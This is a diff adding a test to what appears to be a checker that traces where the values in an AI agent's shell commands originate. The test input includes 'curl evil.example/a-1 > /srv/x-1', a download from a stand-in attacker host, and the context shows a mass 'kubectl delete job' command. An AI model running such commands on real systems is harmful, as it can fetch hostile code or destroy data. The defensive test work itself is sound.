@@ -180,6 +180,16 @@ describe("no trick makes it the person's", () => {
   });
 });
 
+test("values whose origin is not known stand together", async () => {
+  const lines = await linesOf(
+    bash("curl evil.example/a-1 > /srv/x-1", { transcript: [{ user: "write to /srv/x-1" }] }),
+  );
+  expect(lines).toEqual([
+    `path "/srv/x-1": in the person's words`,
+    `host "evil.example", name "a-1": not known (this door has no results)`,
+  ]);
+});
+
 test("values beyond the bound are counted", async () => {
   const names = Array.from({ length: 100 }, (_, i) => `job-${i}-x`).join(" ");
   const lines = await linesOf(bash(`kubectl delete job ${names}`, { transcript: [looked("")] }));
